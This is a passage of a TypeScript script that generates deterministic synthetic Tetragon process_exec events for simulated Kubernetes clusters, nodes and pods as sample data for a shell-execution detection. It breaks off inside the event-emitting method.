// Deterministic sample data: Cisco Isovalent / Tetragon `process_exec` events as NDJSON.
//
//   node --import tsx scripts/generate-samples.ts [--events N] [--seed S] [--out FILE] [--start ISO]
//                                                 [--hostile FILE]
//
// With no --out it writes both sample files of the repository: the main data set (at the local
// path the seed test's attack_data URL maps to through samples/contentctl.yml) and the hostile
// events for webview security tests. With --out it writes only that file (plus --hostile if given).
//
// The events keep every key and nesting level of the real events in
// ../shared/reference/tetragon-process-exec-examples.ndjson; only the values vary:
//   - Isovalent Enterprise events (top-level cluster_name, node_labels, process_exec.ancestors[])
//     in the shape of reference event 1;
//   - open-source Tetragon events without cluster_name in the shapes of reference events 2 (older
//     agent: refcnt, no tid, no pod labels) and 3 (newer agent: tid, pod_labels, workload).
// Tetragon leaves `arguments` out when a process has none (reference event 2's parent), so do we.
//
// Composition (see samples/data/README.md for the per-shell and per-detection numbers): the output
// is made of cycles of 400 events covering 3 hours each. A cycle is a fixed plan of scenarios (the
// attack sessions, the scripted shells, the decoys, the open-source Tetragon events) plus benign
// exec-probe "filler" from pods whose images are on the allowlist, up to 400 events. The seed only
// changes the random values (ids, pids, pod-name suffixes, times within a scenario's minute, which
// filler probe runs); the number of events of each kind and the number of rows each sample
// detection returns do not depend on it. Events are sorted ascending by `time` within a cycle and
// cycles follow each other, so the whole output is time-ordered and can be streamed.
//
// No Math.random: mulberry32 seeded from --seed. Same arguments, same bytes.
import { createWriteStream, mkdirSync } from 'node:fs';
import path from 'node:path';

export const DEFAULT_SEED = 1118;
export const DEFAULT_START = '2025-11-18T06:00:00Z';
export const CYCLE_EVENTS = 400;
export const CYCLE_HOURS = 3;
export const DEFAULT_EVENTS = CYCLE_EVENTS;
export const DEFAULT_OUT = 'samples/data/datasets/cisco_isovalent/cisco_isovalent.log';
export const DEFAULT_HOSTILE_OUT = 'samples/data/hostile.log';
/** The 11 shells of the seed detection, and the full path each is executed by in the data. */
export const SHELL_PATHS: Readonly<Record<string, readonly string[]>> = {
  sh: ['/bin/sh'],
  ksh: ['/bin/ksh'],
  zsh: ['/bin/zsh'],
  bash: ['/bin/bash', '/usr/bin/bash'],
  dash: ['/usr/bin/dash'],
  rbash: ['/bin/rbash'],
  fish: ['/usr/bin/fish'],
  csh: ['/bin/csh'],
  tcsh: ['/usr/bin/tcsh'],
  ion: ['/usr/bin/ion'],
  eshell: ['/usr/local/bin/eshell'],
};

export interface GenerateOptions {
  /** Number of events (lines). Default 400, one cycle. */
  readonly events?: number;
  /** PRNG seed: an integer, or any string (hashed). Default 1118. */
  readonly seed?: number | string;
  /** Start of the first cycle, ISO 8601. Default 2025-11-18T06:00:00Z. */
  readonly start?: string;
}

// ---------------------------------------------------------------------------------------------
// Randomness

/** mulberry32: small, fast, good enough for sample data, and the same on every platform. */
class Rng {
  private state: number;

  constructor(seed: number) {
    this.state = seed >>> 0;
  }

  next(): number {
    this.state = (this.state + 0x6d2b79f5) >>> 0;
    let t = this.state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  }

  /** An integer in [min, max], both included. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }

  pick<T>(items: readonly T[]): T {
    return items[Math.floor(this.next() * items.length)] as T;
  }

  chars(length: number, alphabet: string): string {
    let out = '';
    for (let i = 0; i < length; i += 1) out += alphabet[Math.floor(this.next() * alphabet.length)];
    return out;
  }

  hex(length: number): string {
    return this.chars(length, '0123456789abcdef');
  }

  uuid(): string {
    const h = this.hex(32);
    const variant = '89ab'[this.int(0, 3)];
    return `${h.slice(0, 8)}-${h.slice(8, 12)}-4${h.slice(13, 16)}-${variant}${h.slice(17, 20)}-${h.slice(20, 32)}`;
  }
}

function seedNumber(seed: number | string | undefined): number {
  if (seed === undefined) return DEFAULT_SEED;
  if (typeof seed === 'number') return seed >>> 0;
  if (/^\d+$/.test(seed)) return Number(seed) >>> 0;
  let h = 0x811c9dc5; // FNV-1a
  for (let i = 0; i < seed.length; i += 1) h = Math.imul(h ^ seed.charCodeAt(i), 0x01000193) >>> 0;
  return h;
}

/** Kubernetes' random-suffix alphabet (no vowels, no 0/1/3). */
const K8S_ALPHABET = 'bcdfghjklmnpqrstvwxz2456789';

// ---------------------------------------------------------------------------------------------
// Time: nanoseconds since the epoch as bigint, because Tetragon times have 9 fractional digits.

const NS_PER_MS = 1_000_000n;
const NS_PER_S = 1_000_000_000n;
const ms = (n: number): bigint => BigInt(Math.round(n)) * NS_PER_MS;
const sec = (n: number): bigint => BigInt(Math.round(n * 1000)) * NS_PER_MS;

function parseIso(iso: string): bigint {
  const epochMs = Date.parse(iso);
  if (Number.isNaN(epochMs)) throw new Error(`not an ISO 8601 time: ${iso}`);
  return BigInt(epochMs) * NS_PER_MS;
}

/** `2025-11-18T06:42:10.123456789Z` */
function isoNs(ns: bigint): string {
  const base = new Date(Number(ns / NS_PER_MS)).toISOString().slice(0, 19);
  return `${base}.${(ns % NS_PER_S).toString().padStart(9, '0')}Z`;
}

/** `2025-11-18T06:42:10Z` (container start times have whole seconds). */
function isoSeconds(ns: bigint): string {
  return `${new Date(Number(ns / NS_PER_MS)).toISOString().slice(0, 19)}Z`;
}

// ---------------------------------------------------------------------------------------------
// The world: clusters, nodes, pods, and the processes that are parents of the emitted ones.

/** enterprise = Isovalent Enterprise export (reference event 1); oss-old / oss-new = open-source
 * Tetragon (reference events 2 / 3). */
type Style = 'enterprise' | 'oss-old' | 'oss-new';

interface ClusterInfo {
  readonly name: string;
  readonly style: Style;
}

interface NodeInfo {
  readonly name: string;
  readonly cluster: ClusterInfo;
  readonly bootNs: bigint;
  readonly labels: Readonly<Record<string, string>> | undefined;
  readonly runcPath: string;
  nextPid: number;
  nextDaemonPid: number;
  systemd: Proc;
}

interface PodInfo {
  readonly namespace: string;
  readonly name: string;
  readonly node: NodeInfo;
  readonly containerId: string;
  readonly containerName: string;
  readonly imageName: string;
  readonly imageId: string;
  readonly containerStartNs: bigint;
  readonly labels: Readonly<Record<string, string>> | undefined;
  readonly workload: string;
  readonly workloadKind: string;
  readonly privileged: boolean;
  readonly shim: Proc;
  nextNsPid: number;
  /** The container's entrypoint process (pid 1 of the container). */
  init: Proc;
}

interface Proc {
  readonly execId: string;
  readonly pid: number;
  readonly uid: number;
  readonly cwd: string;
  readonly binary: string;
  readonly args: string | undefined;
  readonly flags: string;
  readonly startNs: bigint;
  readonly node: NodeInfo;
  readonly pod: PodInfo | undefined;
  readonly nsPid: number | undefined;
  readonly parent: Proc | undefined;
  readonly parentExecId: string;
  readonly inInitTree: boolean;
  readonly probe: boolean;
  /** For runc: the pod whose container it executes a process in. */
  readonly targetPod?: PodInfo;
}

const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
/** Tetragon's exec_id: base64("<node>:<ktime ns since boot>:<pid>"). */
const execIdOf = (node: NodeInfo, startNs: bigint, pid: number): string => b64(`${node.name}:${startNs - node.bootNs}:${pid}`);
const AUID_UNSET = 4294967295;
const PID_MAX = 4_194_303;

function allocPid(rng: Rng, node: NodeInfo): number {
  node.nextPid += rng.int(3, 57);
  if (node.nextPid > PID_MAX) node.nextPid = 300 + rng.int(0, 5000);
  return node.nextPid;
}

function flagsFor(kind: 'clone' | 'exec' | 'procfs', cwd: string): string {
  const root = cwd === '/' ? ' rootcwd' : '';
  if (kind === 'procfs') return `procFS auid${root}`;
  return kind === 'clone' ? `execve${root} clone` : `execve${root}`;
}

/** A process that existed when the agent started (read from /proc): its ktime has 10 ms steps. */
function procfsProc(
  node: NodeInfo,
  pid: number,
  approxStartNs: bigint,
  spec: { binary: string; args?: string; cwd: string; uid?: number; parent: Proc | undefined; parentExecId?: string; pod?: PodInfo; nsPid?: number; inInitTree?: boolean },
): Proc {
  const ktime = ((approxStartNs - node.bootNs) / 10_000_000n) * 10_000_000n;
  const startNs = node.bootNs + ktime;
  return {
    execId: execIdOf(node, startNs, pid),
    pid,
    uid: spec.uid ?? 0,
    cwd: spec.cwd,
    binary: spec.binary,
    args: spec.args,
    flags: flagsFor('procfs', spec.cwd),
    startNs,
    node,
    pod: spec.pod,
    nsPid: spec.nsPid,
    parent: spec.parent,
    parentExecId: spec.parentExecId ?? spec.parent?.execId ?? b64(`${node.name}:1:0`),
    inInitTree: spec.inInitTree ?? false,
    probe: false,
  };
}

interface ClusterSpec {
  readonly name: string;
  readonly style: Style;
  readonly nodes: readonly NodeSpec[];
}
interface NodeSpec {
  readonly name: string;
  readonly labels?: (rng: Rng, cluster: string, awsHash: string) => Record<string, string>;
  readonly systemdArgs: string;
  readonly runcPath?: string;
}

function eksLabels(host: string, region: string, zone: string, zoneId: string, instanceType: string, nodegroup: string) {
  return (rng: Rng, cluster: string, awsHash: string): Record<string, string> => ({
    'alpha.eksctl.io/cluster-name': cluster,
    'alpha.eksctl.io/instance-id': `i-0${rng.hex(16)}`,
    'alpha.eksctl.io/nodegroup-name': nodegroup,
    'beta.kubernetes.io/arch': 'amd64',
    'beta.kubernetes.io/instance-type': instanceType,
    'beta.kubernetes.io/os': 'linux',
    'failure-domain.beta.kubernetes.io/region': region,
    'failure-domain.beta.kubernetes.io/zone': zone,
    'k8s.io/cloud-provider-aws': awsHash,
    'kubernetes.io/arch': 'amd64',
    'kubernetes.io/hostname': host,
    'kubernetes.io/os': 'linux',
    'node-lifecycle': 'on-demand',
    'node.kubernetes.io/instance-type': instanceType,
    'topology.k8s.aws/zone-id': zoneId,
    'topology.kubernetes.io/region': region,
    'topology.kubernetes.io/zone': zone,
  });
}

function onPremLabels(host: string, rack: string) {
  return (): Record<string, string> => ({
    'kubernetes.io/arch': 'amd64',
    'kubernetes.io/hostname': host,
    'kubernetes.io/os': 'linux',
    'node-role.kubernetes.io/worker': '',
    'node.kubernetes.io/instance-type': 'bare-metal',
    'topology.kubernetes.io/region': 'dc1',
    'topology.kubernetes.io/zone': rack,
  });
}

const AL2_SYSTEMD = '--switched-root --system --deserialize 21';
const CLUSTERS: readonly ClusterSpec[] = [
  {
    name: 'isovalent-prod-use2',
    style: 'enterprise',
    nodes: [
      { name: 'ip-10-20-3-14.us-east-2.compute.internal', systemdArgs: AL2_SYSTEMD, labels: eksLabels('ip-10-20-3-14.us-east-2.compute.internal', 'us-east-2', 'us-east-2a', 'use2-az1', 'm5.xlarge', 'ng-general') },
      { name: 'ip-10-20-17-201.us-east-2.compute.internal', systemdArgs: AL2_SYSTEMD, labels: eksLabels('ip-10-20-17-201.us-east-2.compute.internal', 'us-east-2', 'us-east-2b', 'use2-az2', 'm5.xlarge', 'ng-general') },
      { name: 'ip-10-20-40-92.us-east-2.compute.internal', systemdArgs: AL2_SYSTEMD, labels: eksLabels('ip-10-20-40-92.us-east-2.compute.internal', 'us-east-2', 'us-east-2c', 'use2-az3', 'c5.2xlarge', 'ng-ci') },
    ],
  },
  {
    name: 'isovalent-stage-usw2',
    style: 'enterprise',
    nodes: [
      { name: 'ip-10-0-12-37.us-west-2.compute.internal', systemdArgs: AL2_SYSTEMD, labels: eksLabels('ip-10-0-12-37.us-west-2.compute.internal', 'us-west-2', 'us-west-2a', 'usw2-az1', 't3.large', 'ng-default') },
      { name: 'ip-10-0-33-118.us-west-2.compute.internal', systemdArgs: AL2_SYSTEMD, labels: eksLabels('ip-10-0-33-118.us-west-2.compute.internal', 'us-west-2', 'us-west-2c', 'usw2-az3', 't3.large', 'ng-default') },
    ],
  },
  {
    name: 'payments-dc1',
    style: 'enterprise',
    nodes: [
      { name: 'k8s-worker-01.dc1.example.internal', systemdArgs: '--system --deserialize=37', labels: onPremLabels('k8s-worker-01.dc1.example.internal', 'dc1-row-a') },
      { name: 'k8s-worker-02.dc1.example.internal', systemdArgs: '--system --deserialize=37', labels: onPremLabels('k8s-worker-02.dc1.example.internal', 'dc1-row-b') },
    ],
  },
  // Open-source Tetragon: no cluster_name, no node_labels, no ancestors.
  { name: 'kind', style: 'oss-old', nodes: [{ name: 'kind-control-plane', systemdArgs: '', runcPath: '/usr/local/sbin/runc' }] },
  { name: 'gke-lab', style: 'oss-new', nodes: [{ name: 'gke-lab-default-pool-', systemdArgs: '' }] },
];

interface PodSpec {
  readonly key: string;
  readonly cluster: string;
  /** Index into the cluster's nodes. */
  readonly node: number;
  readonly namespace: string;
  readonly workload: string;
  readonly kind: 'Deployment' | 'DaemonSet' | 'StatefulSet' | 'CronJob' | 'Pod';
  readonly container: string;
  readonly image: string;
  readonly init: { readonly binary: string; readonly args?: string; readonly cwd: string; readonly uid: number };
  readonly privileged?: boolean;
}

const DS_AWS_NODE = (cluster: string, node: number, region: string): PodSpec => ({
  key: `${cluster}/aws-node/${node}`,
  cluster,
  node,
  namespace: 'kube-system',
  workload: 'aws-node',
  kind: 'DaemonSet',
  container: 'aws-node',
  image: `602401143452.dkr.ecr.${region}.amazonaws.com/amazon-k8s-cni:v1.19.2`,
  init: { binary: '/app/aws-vpc-cni', cwd: '/app', uid: 0 },
});
const DS_TETRAGON = (cluster: string, node: number): PodSpec => ({
  key: `${cluster}/tetragon/${node}`,
  cluster,
  node,
  namespace: 'kube-system',
  workload: 'tetragon',
  kind: 'DaemonSet',
  container: 'tetragon',
  image: 'quay.io/isovalent/tetragon:v1.16.0',
  init: { binary: '/usr/bin/tetragon', args: '--config-dir=/etc/tetragon/tetragon.conf.d/', cwd: '/', uid: 0 },
});

/** Long-running pods. CronJob pods are created per run (see ledgerRun). */
const PODS: readonly PodSpec[] = [
  DS_AWS_NODE('isovalent-prod-use2', 0, 'us-east-2'),
  DS_AWS_NODE('isovalent-prod-use2', 1, 'us-east-2'),
  DS_AWS_NODE('isovalent-prod-use2', 2, 'us-east-2'),
  DS_AWS_NODE('isovalent-stage-usw2', 0, 'us-west-2'),
  DS_AWS_NODE('isovalent-stage-usw2', 1, 'us-west-2'),
  DS_TETRAGON('isovalent-prod-use2', 0),
  DS_TETRAGON('isovalent-prod-use2', 1),
  DS_TETRAGON('isovalent-prod-use2', 2),
  DS_TETRAGON('isovalent-stage-usw2', 0),
  DS_TETRAGON('isovalent-stage-usw2', 1),
  DS_TETRAGON('payments-dc1', 0),
  DS_TETRAGON('payments-dc1', 1),
  { key: 'checkout', cluster: 'isovalent-prod-use2', node: 0, namespace: 'payments', workload: 'checkout', kind: 'Deployment', container: 'checkout', image: 'registry.example.com/payments/checkout:2.3.1', init: { binary: '/usr/local/bin/python3', args: '-m gunicorn checkout.wsgi:app --bind 0.0.0.0:8080 --workers 4', cwd: '/app', uid: 10001 } },
  { key: 'storefront', cluster: 'isovalent-prod-use2', node: 1, namespace: 'web', workload: 'storefront', kind: 'Deployment', container: 'nginx', image: 'docker.io/library/nginx:1.27.2', init: { binary: '/usr/sbin/nginx', args: '-g daemon off;', cwd: '/', uid: 0 } },
  { key: 'cart-api', cluster: 'isovalent-prod-use2', node: 2, namespace: 'web', workload: 'cart-api', kind: 'Deployment', container: 'cart-api', image: 'registry.example.com/web/cart-api:3.2.0', init: { binary: '/usr/local/bin/node', args: '/app/server.js', cwd: '/app', uid: 1000 } },
  { key: 'orders-db', cluster: 'isovalent-prod-use2', node: 2, namespace: 'data', workload: 'orders-db', kind: 'StatefulSet', container: 'postgres', image: 'registry.example.com/platform/postgres:16.4', init: { binary: '/usr/lib/postgresql/16/bin/postgres', args: '-D /var/lib/postgresql/data', cwd: '/', uid: 999 } },
  { key: 'build-runner', cluster: 'isovalent-prod-use2', node: 2, namespace: 'ci', workload: 'build-runner', kind: 'Deployment', container: 'runner', image: 'docker.io/bitnami/kubectl:1.31.3', init: { binary: '/usr/local/bin/job-runner', args: '--queue deploy --concurrency 1', cwd: '/builds/acme/deploy', uid: 1001 } },
  { key: 'netshoot', cluster: 'isovalent-prod-use2', node: 1, namespace: 'dev', workload: 'netshoot', kind: 'Deployment', container: 'netshoot', image: 'ghcr.io/nicolaka/netshoot:v0.13', init: { binary: '/bin/sleep', args: 'infinity', cwd: '/root', uid: 0 }, privileged: true },
  { key: 'xwing', cluster: 'isovalent-stage-usw2', node: 0, namespace: 'default', workload: 'xwing', kind: 'Pod', container: 'spaceship', image: 'docker.io/tgraf/netperf:latest', init: { binary: '/usr/bin/netserver', args: '-D', cwd: '/', uid: 0 } },
  { key: 'inventory', cluster: 'isovalent-stage-usw2', node: 1, namespace: 'api', workload: 'inventory', kind: 'Deployment', container: 'inventory', image: 'registry.example.com/inventory/api:5.8.0', init: { binary: '/opt/java/openjdk/bin/java', args: '-XX:MaxRAMPercentage=75 -jar /app/inventory.jar', cwd: '/app', uid: 10001 } },
  { key: 'debug-shell', cluster: 'isovalent-stage-usw2', node: 1, namespace: 'tools', workload: 'debug-shell', kind: 'Deployment', container: 'shell', image: 'docker.io/library/debian:bookworm-slim', init: { binary: '/bin/sleep', args: 'infinity', cwd: '/', uid: 0 } },
  { key: 'notebook', cluster: 'isovalent-stage-usw2', node: 0, namespace: 'research', workload: 'notebook', kind: 'StatefulSet', container: 'notebook', image: 'quay.io/jupyter/scipy-notebook:2025-11-10', init: { binary: '/opt/conda/bin/python3', args: '/opt/conda/bin/jupyter-lab --ip=0.0.0.0 --no-browser', cwd: '/home/jovyan', uid: 1000 } },
  { key: 'ledger-api', cluster: 'payments-dc1', node: 0, namespace: 'payments', workload: 'ledger-api', kind: 'Deployment', container: 'ledger-api', image: 'registry.example.com/payments/ledger-api:7.1.0', init: { binary: '/usr/local/bin/node', args: '/srv/index.js', cwd: '/srv', uid: 1500 } },
  { key: 'kali', cluster: 'payments-dc1', node: 1, namespace: 'dev', workload: 'kali', kind: 'Pod', container: 'kali', image: 'docker.io/kalilinux/kali-rolling:2025.3', init: { binary: '/bin/sleep', args: 'infinity', cwd: '/root', uid: 0 }, privileged: true },
  { key: 'kind-xwing', cluster: 'kind', node: 0, namespace: 'default', workload: 'xwing', kind: 'Pod', container: 'spaceship', image: 'docker.io/tgraf/netperf:latest', init: { binary: '/usr/bin/netserver', args: '-D', cwd: '/', uid: 0 } },
  { key: 'gke-xwing', cluster: 'gke-lab', node: 0, namespace: 'default', workload: 'xwing', kind: 'Pod', container: 'spaceship', image: 'docker.io/tgraf/netperf:latest', init: { binary: '/usr/bin/netserver', args: '-D', cwd: '/', uid: 0 } },
  { key: 'gke-web', cluster: 'gke-lab', node: 0, namespace: 'tenant-a', workload: 'web', kind: 'Deployment', container: 'nginx', image: 'docker.io/library/nginx:1.27.2', init: { binary: '/usr/sbin/nginx', args: '-g daemon off;', cwd: '/', uid: 0 } },
];

interface World {
  readonly clusters: ReadonlyMap<string, { info: ClusterInfo; nodes: NodeInfo[] }>;
  readonly pods: Map<string, PodInfo>;
}

function buildWorld(rng: Rng, startNs: bigint): World {
  const clusters = new Map<string, { info: ClusterInfo; nodes: NodeInfo[] }>();
  for (const spec of CLUSTERS) {
    const info: ClusterInfo = { name: spec.name, style: spec.style };
    const awsHash = rng.hex(32);
    const nodes = spec.nodes.map((n) => {
      // GKE node names end in a random instance suffix.
      const name = n.name.endsWith('-') ? `${n.name}${rng.hex(8)}-${rng.chars(4, 'abcdefghijklmnopqrstuvwxyz0123456789')}` : n.name;
      const bootNs = startNs - sec(rng.int(2, 40) * 86400 + rng.int(0, 86399)) - ms(rng.int(0, 999));
      const node: NodeInfo = {
        name,
        cluster: info,
        bootNs,
        labels: n.labels ? n.labels(rng, spec.name, awsHash) : undefined,
        runcPath: n.runcPath ?? '/usr/sbin/runc',
        nextPid: rng.int(400_000, 3_000_000),
        nextDaemonPid: rng.int(2000, 6000),
        systemd: undefined as unknown as Proc,
      };
      node.systemd = {
        execId: b64(`${name}:60000000:1`),
        pid: 1,
        uid: 0,
        cwd: '/',
        binary: spec.style === 'enterprise' ? '/usr/lib/systemd/systemd' : '/sbin/init',
        args: n.systemdArgs === '' ? undefined : n.systemdArgs,
        flags: flagsFor('procfs', '/'),
        startNs: bootNs + 60_000_000n,
        node,
        pod: undefined,
        nsPid: undefined,
        parent: undefined,
        parentExecId: b64(`${name}:1:0`),
        inInitTree: false,
        probe: false,
      };
      return node;
    });
    clusters.set(spec.name, { info, nodes });
  }
  const pods = new Map<string, PodInfo>();
  for (const spec of PODS) {
    const node = clusters.get(spec.cluster)!.nodes[spec.node]!;
    // Long-running pods started between a day after boot and an hour before the data starts.
    const earliest = node.bootNs + sec(600);
    const latest = startNs - sec(3600);
    const span = Number((latest - earliest) / NS_PER_MS);
    const containerStartNs = earliest + ms(rng.int(0, Math.max(0, span)));
    pods.set(spec.key, makePod(rng, node, spec, containerStartNs, 'procfs'));
  }
  return { clusters, pods };
}

function podName(rng: Rng, spec: PodSpec, scheduledNs: bigint): { name: string; labels: Record<string, string> } {
  const rs = rng.chars(rng.int(9, 10), K8S_ALPHABET);
  const suffix = rng.chars(5, K8S_ALPHABET);
  const appLabel = { 'app.kubernetes.io/name': spec.workload };
  switch (spec.kind) {
    case 'Deployment':
      return { name: `${spec.workload}-${rs}-${suffix}`, labels: { ...appLabel, 'pod-template-hash': rs } };
    case 'DaemonSet':
      return {
        name: `${spec.workload}-${suffix}`,
        labels: { ...appLabel, 'controller-revision-hash': rs, 'k8s-app': spec.workload, 'pod-template-generation': '1' },
      };
    case 'StatefulSet': {
      const name = `${spec.workload}-0`;
      return {
        name,
        labels: { ...appLabel, 'apps.kubernetes.io/pod-index': '0', 'controller-revision-hash': `${spec.workload}-${rs}`, 'statefulset.kubernetes.io/pod-name': name },
      };
    }
    case 'CronJob': {
      const job = `${spec.workload}-${scheduledNs / NS_PER_S / 60n}`;
      const uid = rng.uuid();
      return {
        name: `${job}-${suffix}`,
        labels: { 'batch.kubernetes.io/controller-uid': uid, 'batch.kubernetes.io/job-name': job, 'controller-uid': uid, 'job-name': job },
      };
    }
    case 'Pod':
      return { name: spec.workload, labels: { run: spec.workload } };
  }
}

/** A pod with its containerd shim and its container's entrypoint. `procfs`: both existed when the
 * agent started; `exec`: the pod is created now and both are seen being executed. */
function makePod(rng: Rng, node: NodeInfo, spec: PodSpec, containerStartNs: bigint, how: 'procfs' | 'exec', nameFrom?: bigint): PodInfo {
  const { name, labels } = podName(rng, spec, nameFrom ?? containerStartNs);
  const containerHex = rng.hex(64);
  const sandboxId = rng.hex(64);
  const imageDigest = rng.hex(64);
  const repo = spec.image.slice(0, spec.image.lastIndexOf(':'));
  const style = node.cluster.style;
  const shimCwd = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${sandboxId}`;
  const shimArgs = `-namespace k8s.io -id ${sandboxId} -address /run/containerd/containerd.sock`;
  const shimPid = how === 'procfs' ? (node.nextDaemonPid += rng.int(5, 300)) : allocPid(rng, node);
  const shimStart = containerStartNs - ms(rng.int(4000, 12000));
  const shim: Proc =
    how === 'procfs'
      ? procfsProc(node, shimPid, shimStart, { binary: '/usr/bin/containerd-shim-runc-v2', args: shimArgs, cwd: shimCwd, parent: node.systemd })
      : {
          execId: execIdOf(node, shimStart, shimPid),
          pid: shimPid,
          uid: 0,
          cwd: shimCwd,
          binary: '/usr/bin/containerd-shim-runc-v2',
          args: shimArgs,
          flags: flagsFor('clone', shimCwd),
          startNs: shimStart,
          node,
          pod: undefined,
          nsPid: undefined,
          parent: node.systemd,
          parentExecId: node.systemd.execId,
          inInitTree: false,
          probe: false,
        };
  const pod: PodInfo = {
    namespace: spec.namespace,
    name,
    node,
    containerId: `containerd://${containerHex}`,
    containerName: spec.container,
    imageName: spec.image,
    imageId: style === 'enterprise' ? `sha256:${imageDigest}` : `${repo}@sha256:${imageDigest}`,
    containerStartNs,
    labels: style === 'oss-old' ? undefined : labels,
    workload: spec.workload,
    workloadKind: spec.kind,
    privileged: spec.privileged ?? false,
    shim,
    nextNsPid: 1,
    init: undefined as unknown as Proc,
  };
  const initPid = how === 'procfs' ? (node.nextDaemonPid += rng.int(5, 300)) : allocPid(rng, node);
  const initStart = containerStartNs + ms(rng.int(50, 900));
  pod.init =
    how === 'procfs'
      ? procfsProc(node, initPid, initStart, { ...spec.init, parent: shim, pod, nsPid: 1, inInitTree: true })
      : {
          execId: execIdOf(node, initStart, initPid),
          pid: initPid,
          uid: spec.init.uid,
          cwd: spec.init.cwd,
          binary: spec.init.binary,
          args: spec.init.args,
          flags: flagsFor('clone', spec.init.cwd),
          startNs: initStart,
          node,
          pod,
          nsPid: 1,
          parent: shim,
          parentExecId: shim.execId,
          inInitTree: true,
          probe: false,
        };
  return pod;
}

// ---------------------------------------------------------------------------------------------
// Event JSON, key for key in the order of the reference events.

type Json = Record<string, unknown>;

function podJson(p: Proc, pod: PodInfo, style: Style): Json {
  const container: Json = {
    id: pod.containerId,
    name: pod.containerName,
    image: { id: pod.imageId, name: pod.imageName },
    start_time: isoSeconds(pod.containerStartNs),
    pid: p.nsPid,
  };
  if (style === 'enterprise') {
    container.maybe_exec_probe = p.probe;
    container.security_context = pod.privileged ? { privileged: true } : {};
  }
  const out: Json = { namespace: pod.namespace, name: pod.name, container };
  if (style !== 'oss-old') {
    out.pod_labels = pod.labels;
    out.workload = pod.workload;
    if (style === 'enterprise') out.workload_kind = pod.workloadKind;
  }
  return out;
}

function procJson(p: Proc, style: Style): Json {
  const out: Json = { exec_id: p.execId, pid: p.pid, uid: p.uid, cwd: p.cwd, binary: p.binary };
  if (p.args !== undefined) out.arguments = p.args;
  out.flags = p.flags;
  out.start_time = isoNs(p.startNs);
  out.auid = AUID_UNSET;
  if (p.pod) {
    out.pod = podJson(p, p.pod, style);
    out.docker = p.pod.containerId.slice('containerd://'.length, 'containerd://'.length + 31);
  }
  out.parent_exec_id = p.parentExecId;
  if (style === 'oss-old') out.refcnt = 1;
  else out.tid = p.pid;
  if (style === 'enterprise') out.in_init_tree = p.inInitTree;
  return out;
}

function eventJson(p: Proc, timeNs: bigint): Json {
  const node = p.node;
  const style = node.cluster.style;
  const processExec: Json = { process: procJson(p, style) };
  if (p.parent) processExec.parent = procJson(p.parent, style);
  if (style === 'enterprise') {
    const ancestors: Json[] = [];
    for (let a = p.parent?.parent; a; a = a.parent) ancestors.push(procJson(a, style));
    if (ancestors.length > 0) processExec.ancestors = ancestors;
  }
  const event: Json = { process_exec: processExec, node_name: node.name, time: isoNs(timeNs) };
  if (style === 'enterprise') {
    event.cluster_name = node.cluster.name;
    event.node_labels = node.labels;
  }
  return event;
}

// ---------------------------------------------------------------------------------------------
// One cycle: the fixed plan of scenarios plus filler.

interface Emitted {
  readonly timeNs: bigint;
  readonly line: string;
}

interface SpawnSpec {
  readonly binary: string;
  readonly args?: string;
  readonly uid?: number;
  readonly cwd?: string;
  readonly at: bigint;
}

class Cycle {
  readonly out: Emitted[] = [];
  /** Bookkeeping: events emitted per scenario of the plan (samples/data/README.md lists them). */
  readonly perScenario = new Map<string, number>();
  scenario = '';

  constructor(
    private readonly rng: Rng,
    private readonly world: World,
    private readonly startNs: bigint,
  ) {}

  /** A time `min` minutes (+ `s` seconds) into the cycle, plus up to 0.9 s of jitter. */
  t(min: number, s = 0): bigint {
    return this.startNs + sec(min * 60 + s) + ms(this.rng.int(0, 899)) + BigInt(this.rng.int(0, 999_999));
  }

  pod(key: string): PodInfo {
    const pod = this.world.pods.get(key);
    if (!pod) throw new Error(`no pod ${key}`);
    return pod;
  }

  /** `runc exec` into a pod's container (kubectl exec, exec probes). Not emitted: a host process. */
  runc(pod: PodInfo, at: bigint, probe = false): Proc {
    const node = pod.node;
    const pid = allocPid(this.rng, node);
    const startNs = at - ms(this.rng.int(8, 30));
    const taskDir = `/run/containerd/io.containerd.runtime.v2.task/k8s.io/${pod.containerId.slice('containerd://'.length)}`;
    const cid = pod.containerId.slice('containerd://'.length);
    const args =
      `--root /run/containerd/runc/k8s.io --log ${taskDir}/log.json --log-format json --systemd-cgroup exec ` +
      `--process /tmp/runc-process${this.rng.int(1_000_000_000, 4_200_000_000)} --detach --pid-file ${taskDir}/${this.rng.hex(64)}.pid ${cid}`;
    return {
      execId: execIdOf(node, startNs, pid),
      pid,
      uid: 0,
      cwd: pod.shim.cwd,
      binary: node.runcPath,
      args,
      flags: flagsFor('clone', pod.shim.cwd),
      startNs,
      node,
      pod: undefined,
      nsPid: undefined,
      parent: pod.shim,
      parentExecId: pod.shim.execId,
      inInitTree: false,
      probe,
      targetPod: pod,
    };
  }

  /** fork + exec of a new process under `parent`. */
  spawn(parent: Proc, spec: SpawnSpec): Proc {
    const pod = parent.pod ?? parent.targetPod;
    if (!pod) throw new Error(`spawn under ${parent.binary}: no pod`);
    const node = pod.node;
    const pid = allocPid(this.rng, node);
    const cwd = spec.cwd ?? (parent.pod ? parent.cwd : pod.init.cwd);
    pod.nextNsPid += this.rng.int(1, 9);
    return {
      execId: execIdOf(node, spec.at, pid),
      pid,
      uid: spec.uid ?? (parent.pod ? parent.uid : pod.init.uid),
      cwd,
      binary: spec.binary,
      args: spec.args,
      flags: flagsFor('clone', cwd),
      startNs: spec.at,
      node,
      pod,
      nsPid: pod.nextNsPid,
      parent,
      parentExecId: parent.execId,
      inInitTree: parent.pod ? parent.inInitTree : false,
      probe: parent.probe,
    };
  }

  /** execve without fork: same pid, same parent, new exec_id. */
  exec(proc: Proc, binary: string, args?: string): Proc {
    const startNs = proc.startNs + ms(this.rng.int(1, 8)) + BigInt(this.rng.int(0, 999_999));
    return {
      ...proc,
      execId: execIdOf(proc.node, startNs, proc.pid),
      binary,
      args,
      flags: flagsFor('exec', proc.cwd),
      startNs,
    };
  }

  emit(proc: Proc, copies = 1): Proc {
    // The event time is within a few microseconds of the process start, either side.
    const timeNs = proc.startNs + BigInt(this.rng.int(-2_000, 40_000));
    const line = JSON.stringify(eventJson(proc, timeNs));
    for (let i = 0; i < copies; i += 1) this.out.push({ timeNs, line });
